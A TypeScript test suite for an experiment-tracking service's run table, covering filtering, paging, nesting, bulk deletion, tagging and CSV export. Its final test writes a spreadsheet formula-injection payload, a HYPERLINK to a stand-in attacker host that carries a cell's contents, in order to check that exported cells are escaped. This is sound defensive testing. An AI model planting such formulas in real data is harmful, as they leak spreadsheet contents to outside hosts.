import { expect, it } from 'vitest'
import { localOwner } from '../kernel/actor.ts'
import { describeDatabases, PROJECT_ID, TEST_TIME_MS, type TestContext } from '../../test/databases.ts'
import { parseFilterText } from './filter-text.ts'
import {
  createExperiment,
  createRun,
  getRun,
  logBatch,
  setRunsLifecycle,
  tagRuns,
} from '../tracking/tracking.ts'
import { csvOfRuns } from './run-csv.ts'
import { countRunTable, listRunColumns, readRunTable } from './run-table.ts'

const caller = { projectId: PROJECT_ID, actor: localOwner }
const search = { ...caller, filter: { and: [] }, lifecycle: 'active' as const, limit: 100 }

/** Three runs of a sweep below one parent, in an experiment of their own. */
async function sweep(context: TestContext) {
  const { id: experimentId } = await createExperiment(context, { ...caller, name: 'sweep' })
  const parent = await createRun(context, { ...caller, experimentId, name: 'parent', startMs: TEST_TIME_MS })
  const children: string[] = []
  for (const [index, auc] of [0.61, 0.64, Number.NaN].entries()) {
    const startMs = TEST_TIME_MS + 1000 * (index + 1)
    const run = await createRun(context, {
      ...caller,
      experimentId,
      name: `child ${index}`,
      startMs,
      parentRunId: parent.id,
    })
    await logBatch(context, {
      ...caller,
      runId: run.id,
      metrics: [
        { key: 'auc', value: auc, step: 1, timestampMs: 1 },
        { key: 'system/cpu', value: 50, step: 1, timestampMs: 1 },
      ],
      params: [
        { key: 'depth', value: String(3 + index) },
        { key: 'learner', value: 'trees, "boosted"' },
      ],
    })
    children.push(run.id)
  }
  return { experimentId, parent: parent.id, children }
}

describeDatabases('table of runs', (open) => {
  it('has the metrics most runs have and the params that differ, unless told which', async () => {
    const context = await open()
    const { experimentId, children } = await sweep(context)
    const table = await readRunTable(context, { ...search, experimentIds: [experimentId] })
    expect(table.columns).toEqual([
      { kind: 'metric', key: 'auc' },
      { kind: 'param', key: 'depth' },
    ])
    expect(table.rows.map(({ name, values }) => [name, ...values])).toEqual([
      ['child 2', 'NaN', '5'],
      ['child 1', 0.64, '4'],
      ['child 0', 0.61, '3'],
      ['parent', null, null],
    ])
    const roots = await readRunTable(context, { ...search, experimentIds: [experimentId], roots: true })
    expect(roots.columns).toEqual(table.columns)
    expect(roots.rows.map(({ name, values }) => [name, ...values])).toEqual([['parent', null, null]])
    const chosen = await readRunTable(context, {
      ...search,
      columns: [
        { kind: 'tag', key: 'mlflow.runName' },
        { kind: 'metric', key: 'none' },
      ],
      runIds: [children[0]!, 'unknown'],
    })
    expect(chosen.rows.map(({ values }) => values)).toEqual([['child 0', null]])
  })

  it('shows roots with the count of what is nested in them, and the nested ones of one run', async () => {
    const context = await open()
    const { parent, children } = await sweep(context)
    const roots = await readRunTable(context, { ...search, roots: true })
    expect(roots.rows).toMatchObject([{ id: parent, children: 3 }])
    const nested = await readRunTable(context, { ...search, parentRunId: parent })
    expect(nested.rows.map(({ id }) => id)).toEqual([...children].reverse())
  })

  it('is searched by what a person types, page by page, and counted', async () => {
    const context = await open()
    const { experimentId, children } = await sweep(context)
    const filter = parseFilterText("metrics.auc > 0.6 or params.depth = '5'", context.clock.now())
    const orderBy = [{ field: 'metric' as const, key: 'auc', descending: true }]
    const experimentIds = [experimentId]
    const first = await readRunTable(context, { ...search, experimentIds, filter, orderBy, limit: 2 })
    expect(first.rows.map(({ id }) => id)).toEqual([children[1], children[0]])
    const second = await readRunTable(context, {
      ...search,
      experimentIds,
      filter,
      orderBy,
      limit: 2,
      pageToken: first.nextPageToken,
    })
    expect(second.rows.map(({ id }) => id)).toEqual([children[2]])
    expect(await countRunTable(context, { ...search, filter })).toBe(3)
  })

  it('lists the keys it could show with the count of runs, those that contain a text', async () => {
    const context = await open()
    const { experimentId } = await sweep(context)
    const columns = await listRunColumns(context, {
      ...caller,
      experimentIds: [experimentId],
      containing: 'E',
      limit: 1,
    })
    expect(columns.metrics).toEqual([{ key: 'system/cpu', runs: 3 }])
    expect(columns.params).toEqual([{ key: 'depth', runs: 3 }])
  })

  it('changes many runs, all or none', async () => {
    const context = await open()
    const { children } = await sweep(context)
    await expect(
      setRunsLifecycle(context, { ...caller, runIds: [...children, 'unknown'], lifecycle: 'deleted' }),
    ).rejects.toMatchObject({ code: 'not_found' })
    expect(await countRunTable(context, search)).toBe(4)
    const remove = { ...caller, runIds: children, lifecycle: 'deleted' as const }
    expect(await setRunsLifecycle(context, remove)).toBe(3)
    expect(await setRunsLifecycle(context, remove)).toBe(0)
    expect(await countRunTable(context, { ...search, lifecycle: 'deleted' })).toBe(3)
    await setRunsLifecycle(context, { ...remove, lifecycle: 'active' })
    await tagRuns(context, {
      ...caller,
      runIds: children,
      set: [{ key: 'keep', value: 'yes' }],
      remove: ['mlflow.parentRunId'],
    })
    const run = await getRun(context, { ...caller, runId: children[0]! })
    expect(run.tags).toContainEqual({ key: 'keep', value: 'yes' })
    expect(run.parentRunId).toBeUndefined()
    await setRunsLifecycle(context, { ...caller, runIds: [children[1]!], lifecycle: 'deleted' })
    await expect(
      tagRuns(context, { ...caller, runIds: children, set: [{ key: 'keep', value: 'no' }], remove: [] }),
    ).rejects.toMatchObject({ code: 'invalid' })
    expect((await getRun(context, { ...caller, runId: children[0]! })).tags).toContainEqual({
      key: 'keep',
      value: 'yes',
    })
  })

  it('is written as CSV with quotes where they are needed', async () => {
    const context = await open()
    const { experimentId, children } = await sweep(context)
    const filter = parseFilterText('metrics.auc > 0.63', 0)
    const csv = await new Response(
      await csvOfRuns(context, { ...search, experimentIds: [experimentId], filter }),
    ).text()
    expect(csv.split('\r\n')).toEqual([
      'run_id,name,status,experiment_id,user,start_time,end_time,parent_run_id,metrics.auc,metrics.system/cpu,params.depth,params.learner',
      expect.stringMatching(new RegExp(`^${children[1]},child 1,RUNNING,.*,0.64,50,4,"trees, ""boosted"""$`)),
      '',
    ])
  })

  it('writes no cell that a spreadsheet would run as a formula, and leaves numbers as they are', async () => {
    const context = await open()
    const name = '=HYPERLINK("http://evil.example/"&A1)'
    const { id: runId } = await createRun(context, { ...caller, name })
    const params = ['+1+1', '-2.5', '@SUM(1)', '-Infinity', 'a=b'].map((value, at) => ({
      key: `p${at}`,
      value,
    }))
    await logBatch(context, { ...caller, runId, params })
    const [, row] = (await new Response(await csvOfRuns(context, search)).text()).split('\r\n')
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`)
    expect(row).toMatch(/,'\+1\+1,-2\.5,'@SUM\(1\),-Infinity,a=b$/)
  })
})
